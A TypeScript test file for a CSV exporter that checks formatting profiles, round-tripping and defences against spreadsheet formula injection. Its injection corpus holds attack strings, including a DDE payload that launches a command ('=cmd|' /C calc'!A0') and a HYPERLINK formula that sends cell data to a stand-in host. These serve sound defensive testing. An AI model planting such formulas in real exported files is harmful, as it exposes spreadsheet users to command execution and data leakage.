import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { type CsvProfile, toCsv } from "@/lib/export/csv";
import type { Table } from "@/lib/view/table";
import { readCsv } from "./read-csv";

const table: Table = {
  id: "compare",
  title: "Options side by side",
  columns: [
    { id: "name", label: "Option", kind: "text" },
    { id: "tpot", label: "TPOT", unit: "s", kind: "number" },
    { id: "cost", label: "Cost", unit: "USD/tok", kind: "number" },
  ],
  rows: [
    { name: "2× H100, FP8", tpot: 0.03125, cost: 4.2e-7 },
    { name: "MI300X", tpot: null, cost: -1.5 },
  ],
};
const textTable = (text: string): Table => ({
  id: "t",
  title: "t",
  columns: [
    { id: "a", label: "A", kind: "text" },
    { id: "b", label: "B", kind: "number" },
  ],
  rows: [{ a: text, b: 1 }],
});
const profiles: CsvProfile[] = ["standard", "excel", "excel-eu"];

describe("toCsv", () => {
  it("writes units in the header, unrounded numbers and CRLF", () => {
    expect(toCsv(table)).toBe(
      'Option,TPOT (s),Cost (USD/tok)\r\n"2× H100, FP8",0.03125,4.2e-7\r\nMI300X,,-1.5\r\n',
    );
  });

  it("marks UTF-8 for Excel", () => {
    expect(toCsv(table, "excel")).toBe(`\uFEFF${toCsv(table)}`);
  });

  it("writes a semicolon and a decimal comma for excel-eu", () => {
    expect(toCsv(table, "excel-eu")).toBe(
      '\uFEFFOption;TPOT (s);Cost (USD/tok)\r\n"2× H100, FP8";"0,03125";"4,2e-7"\r\nMI300X;;"-1,5"\r\n',
    );
  });

  it("leaves a column with an empty unit without brackets", () => {
    const columns: Table["columns"] = [{ id: "a", label: "A", unit: "", kind: "text" }];
    expect(toCsv({ id: "t", title: "t", columns, rows: [] })).toBe("A\r\n");
  });

  it("refuses a number that is not finite", () => {
    expect(() => toCsv({ ...table, rows: [{ tpot: Number.NaN }] })).toThrow('column "tpot" holds NaN');
  });
});

describe("formula injection", () => {
  const corpus = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example?"&A1,"open")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\uFEFF=1+1",
    '=1+1";=1+1',
  ];
  it.each(corpus)("%j gets an apostrophe", (text) => {
    for (const profile of profiles) {
      expect(readCsv(toCsv(textTable(text), profile), profile)[1]).toEqual([`'${text}`, "1"]);
    }
  });

  it("of every code point that is stripped, ignored or folded by some program", () => {
    const guarded = (text: string) =>
      toCsv(textTable(text)).split("\r\n").slice(1).join("").replace(/^"/, "").startsWith("'");
    const unseen = /^[\s\p{Cc}\p{Cf}\p{Cs}\p{Co}\p{Cn}\p{Z}\p{M}\p{Default_Ignorable_Code_Point}\u2800]$/u;
    let [stripped, folded] = [0, 0];
    const missed: string[] = [];
    // Above plane 2 there are only the tags of plane 14; of the unassigned and private rest, every 251st will do.
    for (let point = 0; point <= 0x10ffff; point += point < 0x3ffff || point >> 12 === 0xe0 ? 1 : 251) {
      const character = String.fromCodePoint(point);
      if (unseen.test(character)) {
        stripped++;
        if (!guarded(`${character}=1+1`)) missed.push(point.toString(16));
      } else if (/^[=+\-@]/.test(character.normalize("NFKC"))) {
        folded++;
        if (!guarded(`${character}1+1`)) missed.push(point.toString(16));
      } else if (/[\p{L}\p{N}]/u.test(character) && guarded(`${character}=1`)) {
        missed.push(`${point.toString(16)} is guarded without need`);
      }
    }
    expect(missed.slice(0, 20)).toEqual([]);
    expect(stripped).toBeGreaterThan(70_000);
    expect(folded).toBeGreaterThan(15);
  });

  it("behind any mixture of what is stripped", () => {
    const unseen = fc.constantFrom(
      " ",
      "\t",
      "\u0001",
      "\u001f",
      "\u007f",
      "\u0085",
      "\u200e",
      "\u202e",
      "\u2066",
      "\u034f",
      "\u3164",
      "\ufe0f",
      "\ud800",
    );
    const sign = fc.constantFrom(..."=+-@＝＋－＠﹦﹢﹣﹫⁼₊⩵−");
    fc.assert(
      fc.property(fc.array(unseen), sign, fc.string(), (before, opens, after) => {
        const text = `${before.join("")}${opens}${after}`;
        for (const profile of profiles) {
          expect(readCsv(toCsv(textTable(text), profile), profile)[1]?.[0]).toBe(`'${text}`);
        }
      }),
    );
  });

  it("reaches labels of columns too", () => {
    const columns: Table["columns"] = [{ id: "a", label: "=A", unit: "s", kind: "number" }];
    expect(toCsv({ id: "t", title: "t", columns, rows: [] })).toBe("'=A (s)\r\n");
  });

  it("leaves ordinary text and negative numbers alone", () => {
    expect(toCsv(textTable("Llama 3.1 70B = large"))).toContain("Llama 3.1 70B = large,1");
    expect(toCsv({ ...table, rows: [{ cost: -0.5 }] })).toContain(",,-0.5");
  });
});

it("any table reads back cell for cell, under every profile", () => {
  const cell = fc.oneof(
    fc.string({ unit: "binary" }),
    fc.array(fc.constantFrom('"', ",", ";", "\r", "\n", "=", " ", "a")).map((parts) => parts.join("")),
    fc.double({ noNaN: true, noDefaultInfinity: true }),
    fc.constant(null),
  );
  fc.assert(
    fc.property(fc.array(fc.tuple(cell, cell)), fc.constantFrom(...profiles), (cells, profile) => {
      const { columns } = textTable("");
      const rows = cells.map(([a, b]) => ({ a, b }));
      const [header, ...read] = readCsv(toCsv({ id: "t", title: "t", columns, rows }, profile), profile);
      expect(header).toEqual(["A", "B"]);
      expect(read).toHaveLength(cells.length);
      for (const [i, row] of cells.entries()) {
        for (const [j, value] of row.entries()) {
          const text = read[i]?.[j] ?? "missing";
          if (typeof value === "number") expect(Number(text.replace(",", "."))).toBe(value || 0);
          else expect([value ?? "", `'${value}`]).toContain(text);
        }
      }
    }),
    { numRuns: 1000 },
  );
});
